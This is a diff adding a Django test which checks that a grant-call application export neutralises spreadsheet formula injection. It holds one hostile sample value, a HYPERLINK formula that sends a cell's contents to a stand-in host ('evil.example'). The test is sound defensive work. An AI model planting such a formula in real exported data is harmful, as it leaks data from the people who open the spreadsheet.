@@ -292,3 +292,21 @@ def test_results_are_published_only_once_every_submitted_application_has_a_decis
     evaluation.call_move(call=competition, to=CallStatus.RESULTS_PUBLISHED, by=editor)  # the draft does not count
     competition.refresh_from_db()
     assert competition.status == CallStatus.RESULTS_PUBLISHED
+
+
+@pytest.mark.django_db
+def test_exports_keep_an_applicants_formula_as_text(client, competition):
+    """Issue 12, item 19: a title "=HYPERLINK(…)" was a live formula in the editor's workbook."""
+    from openpyxl import load_workbook
+
+    formula = '=HYPERLINK("http://evil.example/?leak="&B2,"Click")'
+    competition.applications.filter(reference="COMP-0").update(title=formula)
+    client.force_login(UserFactory(role=Role.EDITOR))
+    response = client.get(f"/en/calls/{competition.slug}/manage/applications.xlsx")
+    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == formula]
+    assert len(cells) == 1 and cells[0].data_type == "s"
+    assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
+    rows = list(csv.reader(io.StringIO(b"".join(client.get(
+        f"/en/calls/{competition.slug}/manage/applications.csv").streaming_content).decode())))
+    assert ["'" + formula] == [value for row in rows for value in row if formula in value]
